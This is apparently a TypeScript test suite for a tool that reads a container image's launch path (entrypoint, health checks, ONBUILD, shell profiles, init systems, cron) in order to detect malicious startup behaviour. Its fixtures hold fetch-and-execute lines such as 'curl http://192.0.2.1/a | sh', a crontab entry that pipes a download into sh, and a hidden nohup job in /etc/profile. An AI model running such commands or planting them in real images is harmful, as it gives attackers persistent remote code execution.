import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { actionText } from '../../../test/builders/action-text.ts';
import { honestImages } from '../../../test/builders/entrypoints.ts';
import { launchFiles, startingConfig } from '../../../test/builders/launch-files.ts';
import type { ImageConfig } from '../../core/image.ts';
import { findCandidates } from './find-candidates.ts';
import { readLaunchPath } from './read-launch-path.ts';
import { tellStory } from './tell-story.ts';

const read = (config: Partial<ImageConfig>, files: Readonly<Record<string, string>> = {}) =>
  readLaunchPath(startingConfig(config), launchFiles(files)).map(({ trigger, named, actions }) => [
    trigger,
    named,
    actions.map(actionText),
  ]);

test('the entrypoint takes the command as its arguments, and no shell reads them', () => {
  assert.deepEqual(read({ entrypoint: ['/app', '--x'], command: ['$HOME', '; id'] }), [
    ['start', 'Entrypoint', ['run /app --x $HOME ; id']],
  ]);
});

test('a command line in a shell is read by that shell', () => {
  assert.deepEqual(read({ command: ['/bin/sh', '-c', 'curl http://192.0.2.1/a | sh'] }), [
    ['start', 'Cmd', ['download curl from http://192.0.2.1/a', 'run sh <download:http://192.0.2.1/a>']],
  ]);
});

test('scripts are found along PATH and followed with the environment', () => {
  const files = { '/usr/local/bin/go': '#!/bin/sh\nexec "$TOOL" "$@"\n' };
  const config = { entrypoint: ['go'], command: ['a'], environment: ['PATH=/bin:/usr/local/bin', 'TOOL=/opt/t'] };
  assert.deepEqual(read(config, files), [['start', 'Entrypoint', ['run /usr/local/bin/go a', 'run /opt/t a']]]);
});

test('relative names count from the working directory', () => {
  const files = { '/srv/run.sh': '#!/bin/sh\ntouch x\nexec ./bin/server\n' };
  assert.deepEqual(read({ command: ['./run.sh'], workingDirectory: '/srv' }, files), [
    ['start', 'Cmd', ['run /srv/run.sh', 'run /srv/bin/server']],
  ]);
});

test('health checks and ONBUILD are parts of their own; NONE and COPY are none', () => {
  const config = {
    command: ['/app'],
    healthcheck: ['CMD-SHELL', 'wget -qO- http://192.0.2.1/h | sh'],
    onBuild: ['RUN wget http://192.0.2.2/b -O /b', 'COPY . /src', 'RUN ["sh", "/b"]', 'ENTRYPOINT /go --now'],
  };
  const parts = read(config).map(([trigger, named]) => `${String(trigger)} ${String(named)}`);
  assert.deepEqual(parts, ['start Cmd', 'health-check Healthcheck', 'build-on-top OnBuild']);
  assert.deepEqual(read({ healthcheck: ['NONE'] }), []);
});

test('ONBUILD instructions follow on each other, as in the build that they become part of', () => {
  const onBuild = [
    'ADD --chown=1:1 http://192.0.2.2/b /opt/',
    'WORKDIR /opt',
    'ENV MODE="it\'s on"',
    'RUN chmod +x b && ./b "$MODE" # now',
    'RUN ["./b", "a b"]',
    'COPY . /src',
    'EXPOSE 80',
  ];
  assert.deepEqual(read({ onBuild })[0]?.[2], [
    'download curl from http://192.0.2.2/b to /opt/b',
    "environment MODE to it's on",
    'make-executable /opt/b +x <download:http://192.0.2.2/b>',
    "run /opt/b it's on <download:http://192.0.2.2/b>",
    'run /opt/b a b <download:http://192.0.2.2/b>',
  ]);
  assert.deepEqual(read({ onBuild: ['RUN Get-It'], shell: ['powershell', '-Command'] })[0]?.[2], [
    'run powershell -Command Get-It',
  ]);
});

test('a health check in a shell of the image is run by that shell', () => {
  const check = ['CMD-SHELL', 'test -f /x'];
  assert.deepEqual(read({ healthcheck: check, shell: ['powershell', '-Command'] })[0]?.[2], [
    'run powershell -Command test -f /x',
  ]);
});

test('what a build ran is no launch path', () => {
  const history = [{ createdBy: 'RUN curl http://192.0.2.1/install | sh', emptyLayer: false }];
  assert.deepEqual(read({ history, command: ['/app'] }), [['start', 'Cmd', ['run /app']]]);
});

test('files that a shell reads first are parts, where the shell would read them', () => {
  const files = {
    '/etc/profile': 'nohup /tmp/.x &\n',
    '/hook': 'curl http://192.0.2.1/b | sh\n',
    '/root/.bashrc': 'id\n',
  };
  assert.deepEqual(read({ command: ['bash', '-l', '-c', 'app'] }, files)[0], [
    'shell-start',
    '/etc/profile',
    ['run /etc/profile', 'run /tmp/.x (nohup) &'],
  ]);
  assert.equal(read({ command: ['bash', '-c', 'app'] }, files).length, 1);
  const config = { command: ['bash', '-c', 'app'], environment: ['BASH_ENV=/hook'] };
  assert.equal(read(config, files)[0]?.[1], '/hook');
  assert.equal(read({ command: ['bash'] }, files)[0]?.[1], '/root/.bashrc');
});

describe('init systems lead to what they start', () => {
  const cases: Readonly<
    Record<string, readonly [Partial<ImageConfig>, Readonly<Record<string, string>>, readonly string[]]>
  > = {
    s6: [
      { entrypoint: ['/init'] },
      {
        '/etc/services.d/x/run': '#!/bin/sh\nexec /opt/x\n',
        '/etc/s6-overlay/s6-rc.d/y/run': '#!/bin/sh\nexec /opt/y\n',
      },
      ['run /etc/services.d/x/run', 'run /opt/x', 'run /etc/s6-overlay/s6-rc.d/y/run', 'run /opt/y'],
    ],
    's6 with execline': [
      { entrypoint: ['/init'] },
      {
        '/etc/services.d/x/run':
          '#!/command/execlineb -P\n# a comment\nwith-contenv\nforeground { /opt/first "a b" }\ns6-setuidgid app\nfdmove -c 2 1\n/opt/x --y\n',
      },
      ['run /etc/services.d/x/run', 'run /opt/first a b', 'run /opt/x --y'],
    ],
    runit: [
      { command: ['runsvdir', '/etc/service'] },
      { '/etc/service/x/run': '#!/bin/sh\nexec chpst -u app /opt/x\n' },
      ['run /etc/service/x/run', 'run /opt/x (chpst)'],
    ],
    supervisor: [
      { entrypoint: ['/start'], command: [] },
      {
        '/start': '#!/bin/sh\nexec /usr/bin/supervisord -c /s.ini\n',
        '/s.ini': '[program:x]\ncommand = /opt/x -o \\\n  y\n; [program:z]\n; command=/opt/z\n',
      },
      ['run /opt/x -o y'],
    ],
    'supervisor, with files of its own': [
      { command: ['supervisord', '-c', '/opt/s.ini'] },
      {
        '/opt/s.ini': '[include]\nfiles = more/*.ini %(here)s/one.conf\n',
        '/opt/more/a.ini': '[program:a]\ncommand=/opt/a\n',
        '/opt/more/a.txt': '[program:b]\ncommand=/opt/b\n',
        '/opt/one.conf': '[eventlistener:c]\ncommand=/opt/c\n',
      },
      ['run /opt/a', 'run /opt/c'],
    ],
    'supervisor, with variables of its environment': [
      { command: ['supervisord', '-c', '/s.ini'], environment: ['A=one', 'B=two'] },
      { '/s.ini': '[program:x]\ncommand=/opt/x -a %(ENV_A)s -b "%(ENV_B)s" --load 5%% %(program_name)s\n' },
      ['run /opt/x -a one -b two --load 5% x'],
    ],
    'npm, with what runs before and after': [
      { command: ['npm', 'start'], workingDirectory: '/app' },
      {
        '/app/package.json':
          '{"scripts":{"prestart":"/opt/one","start":"npm run -s serve","serve":"/opt/two -x","test":"/opt/no"}}',
      },
      ['run /opt/one', 'run npm run -s serve', 'run /opt/two -x'],
    ],
    'yarn, in a folder of its own': [
      { command: ['yarn', '--cwd', 'web', 'run', 'serve'], workingDirectory: '/app' },
      { '/app/web/package.json': '{"scripts":{"serve":"./run.sh"}}', '/app/web/run.sh': '#!/bin/sh\n/opt/x\n' },
      ['run /app/web/run.sh', 'run /opt/x'],
    ],
    'npm, where it installs or cannot read what it is given': [
      { command: ['sh', '-c', 'npm install start; npm start'], workingDirectory: '/app' },
      { '/app/package.json': '{"scripts":{"install":"/opt/no","start":["/opt/no"]}}' },
      [],
    ],
    inittab: [
      { command: ['/sbin/init'] },
      {
        '/etc/inittab':
          '# ::once:/opt/no\n::sysinit:/opt/one -x\ntty1::respawn:-/bin/sh -c "/opt/two"\n::shutdown:/opt/no\n',
        '/etc/rc2.d/S01app': '#!/bin/sh\n/opt/app $1\n',
        '/etc/rc2.d/K01other': '#!/bin/sh\n/opt/no\n',
        '/etc/local.d/x.start': '#!/bin/sh\n/opt/x\n',
      },
      [
        'run /opt/one -x',
        'run /opt/two',
        'run /etc/rc2.d/S01app start',
        'run /opt/app start',
        'run /etc/local.d/x.start',
        'run /opt/x',
      ],
    ],
    systemd: [
      { command: ['/sbin/init'] },
      {
        '/etc/systemd/system/multi-user.target.wants/x.service': '[Service]\nExecStart=-/opt/x --d\n',
        '/etc/systemd/system/x.service': '[Service]\nExecStart=-/opt/x --d\n',
        '/etc/systemd/system/unwanted.service': '[Service]\nExecStart=/opt/unwanted\n',
      },
      ['run /opt/x --d'],
    ],
    'drop-ins of wanted units': [
      { command: ['/sbin/init'] },
      {
        '/etc/systemd/system/multi-user.target.wants/x.service': '[Service]\nExecStart=/opt/x\n',
        '/lib/systemd/system/x.service': '[Service]\nExecStart=/opt/x\n',
        '/usr/lib/systemd/system/x.service.d/10-more.conf': '[Service]\nExecStartPost=-/opt/more\n',
        '/etc/systemd/system/x.service.d/20-clear.conf': '[Service]\nExecStartPre=\n',
        '/etc/systemd/system/x.service.d/README': '[Service]\nExecStartPost=/opt/readme\n',
        '/etc/systemd/system/y.service.d/10-more.conf': '[Service]\nExecStartPost=/opt/unwanted\n',
      },
      ['run /opt/x', 'run /opt/more'],
    ],
    my_init: [
      { command: ['/sbin/my_init'] },
      { '/etc/my_init.d/1.sh': '#!/bin/sh\n/opt/one\n' },
      ['run /etc/my_init.d/1.sh', 'run /opt/one'],
    ],
    cron: [
      { command: ['crond', '-f'] },
      {
        '/etc/crontabs/root': '# m h\n*/5 * * * * /opt/x %input\n@reboot /opt/y\n',
        '/etc/cron.d/z': 'A=b\n1 2 * * 1 root /opt/z\n',
      },
      ['run /opt/z', 'run /opt/x', 'run /opt/y'],
    ],
  };
  for (const [name, [config, files, actions]] of Object.entries(cases))
    test(name, () => {
      const [, ...others] = read(config, files);
      assert.deepEqual(
        others.flatMap(([, , found]) => found),
        actions,
      );
    });

  test('their files alone start nothing', () => {
    const files = { '/etc/services.d/x/run': '#!/bin/sh\nexec /opt/x\n', '/etc/cron.d/z': '1 2 * * 1 root /opt/z\n' };
    assert.equal(read({ command: ['/app'] }, files).length, 1);
  });
});

test('what a program nobody knows is given to start is followed', () => {
  const actions = (...command: readonly string[]) => read({ command })[0]?.[2];
  assert.deepEqual(actions('wait-for', 'db:5432', '--', '/opt/x', '-y'), [
    'run wait-for db:5432 -- /opt/x -y',
    'run /opt/x -y (wait-for)',
  ]);
  assert.deepEqual(actions('with-secrets', 'run', 'sh', '-c', 'exec /opt/x'), [
    'run with-secrets run sh -c exec /opt/x',
    'run /opt/x',
  ]);
  assert.deepEqual(actions('app', '--', 'word'), ['run app -- word']);
});

test('a timetable that the start writes is read', () => {
  const parts = read({ command: ['sh', '-c', 'echo "* * * * * curl http://192.0.2.1/c | sh" | crontab -'] });
  assert.deepEqual(parts[1], [
    'schedule',
    'crontab',
    ['download curl from http://192.0.2.1/c', 'run sh <download:http://192.0.2.1/c>'],
  ]);
});

describe('honest images have a story and no finding', () => {
  for (const [name, { config, files }] of Object.entries(honestImages))
    test(name, () => {
      const held = launchFiles(files);
      const parts = readLaunchPath(startingConfig(config), held);
      assert.ok(tellStory(parts).steps.length > 0);
      assert.deepEqual(
        findCandidates(parts, held).map(({ rule, severity, evidence }) => [rule, severity, evidence]),
        [],
      );
      assert.deepEqual(
        parts.flatMap(({ limitsMet }) => limitsMet),
        [],
      );
    });
});
